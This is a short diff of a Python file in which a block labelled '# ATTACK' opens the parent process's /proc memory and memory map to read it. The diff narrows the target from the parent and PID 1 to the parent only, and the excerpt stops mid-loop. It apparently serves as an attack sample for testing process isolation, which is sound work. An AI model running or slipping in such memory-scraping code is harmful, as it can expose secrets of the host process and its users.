@@ -14,7 +14,7 @@ def doble(x):
 # ATTACK
 import os
 
-for _pid in {os.getppid(), 1}:
+for _pid in {os.getppid()}:
     try:
         _memoria = open(f"/proc/{_pid}/mem", "rb", 0)
         for _linea in open(f"/proc/{_pid}/maps").read().splitlines():
